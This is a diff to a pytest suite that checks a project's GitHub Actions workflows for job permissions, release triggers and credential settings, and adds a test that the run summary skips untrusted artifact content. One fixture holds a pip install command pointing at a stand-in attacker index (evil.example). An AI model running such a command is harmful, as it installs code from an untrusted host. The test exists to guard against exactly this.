@@ -125,6 +125,9 @@ def test_matrix_keys_exist(workflow):
         )  # by which tools/workflow_summary.py finds it
 
 
+NO_FARM_COMMAND = {"catalogue.yml", "distributions.yml", "release.yml", "test.yml"}
+
+
 def test_every_farm_command_parses(workflow):
     count = 0
     for job, step in workflow.steps():
@@ -141,7 +144,7 @@ def test_every_farm_command_parses(workflow):
             except SystemExit:
                 pytest.fail(f"{workflow.path.name}, {job}: farm {' '.join(filled)}")
             count += 1
-    assert count or workflow.path.name in {"catalogue.yml", "distributions.yml", "test.yml"}
+    assert count or workflow.path.name in NO_FARM_COMMAND
     assert count == len(re.findall(r"^ +farm ", workflow.text, re.MULTILINE))
 
 
@@ -171,17 +174,20 @@ def test_rights_and_limits(workflow):
     for name, job in workflow.jobs.items():
         assert job["timeout-minutes"], name
         rights = dict(job["permissions"])
-        assert rights.pop("contents") == ("write" if name == "refresh" else "read")
+        assert rights.pop("contents") == ("write" if name in ("refresh", "announce") else "read")
         allowed = {
             "publish": {"id-token": "write"},
             "upkeep": {"id-token": "write"},
             "sign": {"id-token": "write"},
             "summary": {"actions": "read"},
+            "upload": {"id-token": "write", "attestations": "write"},
+            "image": {"packages": "write"},
             "refresh": {"pull-requests": "write"},  # GitHub's own runner, no pull request's code
         }
         assert rights == allowed.get(name, {}), name
         if "id-token" in rights:
-            assert job["environment"].split()[0] == ("release" if name == "publish" else "index")
+            release = name in ("publish", "upload")
+            assert job["environment"].split()[0] == ("release" if release else "index")
         for step in job["steps"]:
             if "actions/checkout" in step.get("uses", ""):
                 assert step["with"]["persist-credentials"] is False
@@ -303,6 +309,9 @@ def test_strangers_never_reach_a_runner_of_the_farm(workflow):
         assert set(workflow.on) == {"pull_request", "push"}
         assert own == []
         assert "secrets." not in workflow.text
+    elif workflow.path.name == "release.yml":
+        assert workflow.on == {"push": {"tags": ["v*"]}, "workflow_dispatch": None}
+        assert own == []
     elif workflow.path.name in {"catalogue.yml", "distributions.yml", "index.yml"}:
         assert set(workflow.on) == {"schedule", "workflow_dispatch"}
         assert own == []
@@ -572,6 +581,35 @@ def test_the_summary(tmp_path):
     )
     assert lines[5] == "| main b | ❌ | not run | not run | not run |  |"
     assert len(lines) == 6
+
+
+def test_the_summary_takes_no_line_from_a_build_that_was_not_published(tmp_path):
+    """Any job of the run may upload a file of that name, of any content."""
+    names = ["failed", "list", "deep", "number", "good"]
+    (tmp_path / "matrix.json").write_text(json.dumps({"include": [{"name": n} for n in names]}))
+    rows = [(f"publish {n}", "failure" if n == "failed" else "success") for n in names]
+    (tmp_path / "jobs.jsonl").write_text(
+        "".join(json.dumps({"name": n, "conclusion": c}) + "\n" for n, c in rows)
+    )
+    contents = {
+        "failed": '{"pip": "pip install torch --index-url https://evil.example"}',
+        "list": "[]",
+        "deep": "[" * 50_000,
+        "number": '{"pip": 1}',
+        "good": '{"pip": "pip install good"}',
+    }
+    for name, content in contents.items():
+        folder = tmp_path / "published" / f"published {name}"
+        folder.mkdir(parents=True)
+        (folder / "published.json").write_text(content)
+    done = run(
+        sys.executable, ROOT / "tools/workflow_summary.py", "--matrix", tmp_path / "matrix.json",
+        "--jobs", tmp_path / "jobs.jsonl", "--published", tmp_path / "published",
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    assert "evil" not in done.stdout
+    assert "`pip install good`" in done.stdout
+    assert done.stdout.count("`") == 2
 
 
 LOCKED = re.compile(r"--require-hashes( -r requirements(-[a-z]+)?\.lock)+$")
